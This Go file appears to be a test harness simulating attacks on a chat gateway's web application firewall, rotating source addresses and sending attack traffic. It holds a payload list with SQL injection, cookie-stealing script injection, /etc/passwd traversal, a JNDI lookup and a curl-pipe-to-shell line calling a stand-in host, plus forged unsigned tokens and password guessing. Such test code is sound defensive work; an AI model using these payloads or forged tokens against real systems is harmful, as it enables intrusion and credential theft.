package main

import (
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"
	"sync"

	"github.com/convosphere/gateway/test/kit"
)

// attacker moves on to another address now and then, when the old one is banned or shown puzzles.
type attacker struct {
	*load

	mu   sync.Mutex
	from string
	left int
}

const perAddress = 40 // requests from one address: enough to be banned

func (l *load) newAttacker() *attacker { return &attacker{load: l} }

func (a *attacker) address() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.left--; a.left <= 0 {
		a.from, a.left = a.elsewhere(), perAddress
	}
	return a.from
}

var payloads = []string{
	"1' OR '1'='1' -- ", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "; cat /etc/passwd", "${jndi:ldap://198.51.100.9/a}",
	"1 UNION SELECT username, password FROM accounts", "<img src=x onerror=alert(1)>", "$(curl http://198.51.100.9/x.sh | sh)",
}

// attack is what the WAF is for: in a query, or in what somebody who is signed in says. That is always the same one: who attacks is shown puzzles,
// wherever from, and guests are not to be taken for attackers.
func (a *attacker) attack() {
	payload := payloads[rand.IntN(len(payloads))]
	if rand.IntN(2) == 0 {
		a.ask(call{kind: "attack", from: a.address(), method: "GET", path: "/api/rooms?q=" + url.QueryEscape(payload)})
		return
	}
	a.ask(call{kind: "attack", from: a.address(), token: a.insider.token(), method: "POST", path: kit.RoomPath(a.room(), "messages"), body: map[string]string{"text": payload}})
}

// forge shows tokens that nobody has issued: somebody's with another signature, or noise.
func (a *attacker) forge() {
	token := "eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0." + strconv.Itoa(rand.IntN(1e9))
	if rand.IntN(2) == 0 {
		real := a.someone().token()
		end := strings.LastIndexByte(real, '.') + 1
		token = real[:end] + strings.Repeat("A", len(real)-end)
	}
	a.ask(call{kind: "forged token", from: a.address(), token: token, method: "GET", path: "/api/rooms"})
}

// guess tries passwords of one account, and of accounts that are not there.
func (a *attacker) guess() {
	name := a.victim
	if rand.IntN(2) == 0 {
		name = "nobody" + strconv.Itoa(rand.IntN(1000))
	}
	a.ask(call{kind: "guess", from: a.address(), method: "POST", path: "/auth/api/login", body: map[string]string{
		"username": name, "password": "guessed-password-" + strconv.Itoa(rand.IntN(1e6)), "delivery": "body",
	}})
}
